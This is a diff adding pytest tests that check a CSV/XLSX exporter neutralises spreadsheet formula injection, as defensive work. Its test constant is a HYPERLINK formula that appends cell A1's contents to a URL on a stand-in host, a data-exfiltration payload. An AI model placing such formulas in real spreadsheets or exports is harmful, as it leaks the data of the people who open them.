@@ -12,7 +12,7 @@ import pytest
 from openpyxl import load_workbook
 
 from sse_atlas.exports.csvfile import CsvExporter
-from sse_atlas.exports.table import ENTITIES, UnknownEntityError, columns, flatten
+from sse_atlas.exports.table import ENTITIES, Cell, UnknownEntityError, columns, flatten, neutralise
 from sse_atlas.exports.xlsx import XlsxExporter
 from sse_atlas.model import Catalogue, Dataset, Initiative
 
@@ -171,3 +171,36 @@ def test_xlsx_refuses_a_text_stream_without_bytes_beneath(small_dataset: Dataset
     assert (
         str(caught.value) == "a spreadsheet is binary: give a binary stream, or a file's text one"
     )
+
+
+FORMULA = '=HYPERLINK("http://x?y="&A1,"click")'
+
+
+def test_table_neutralise_formula_starts() -> None:
+    cells: list[Cell] = [FORMULA, "+1", "-x", "@SUM(A1)", "\tx", "\rx", "a=b", -7.5, 3]
+    assert [neutralise(cell) for cell in cells] == [
+        f"'{FORMULA}",
+        "'+1",
+        "'-x",
+        "'@SUM(A1)",
+        "'\tx",
+        "'\rx",
+        "a=b",
+        -7.5,
+        3,
+    ]
+
+
+def _formula_dataset() -> Dataset:
+    initiative = Initiative(code="1.1.1", title=FORMULA, catalogue="c", organisation="@org")
+    return Dataset([Catalogue(id="c", initiatives=[initiative])])
+
+
+def test_csv_formula_cells_neutralised() -> None:
+    row = _read(render(CsvExporter(), _formula_dataset()))[0]
+    assert (row["title"], row["organisation"]) == (f"'{FORMULA}", "'@org")
+
+
+def test_csv_raw_keeps_cells_as_stored() -> None:
+    row = _read(render(CsvExporter(raw=True), _formula_dataset()))[0]
+    assert (row["title"], row["organisation"]) == (FORMULA, "@org")
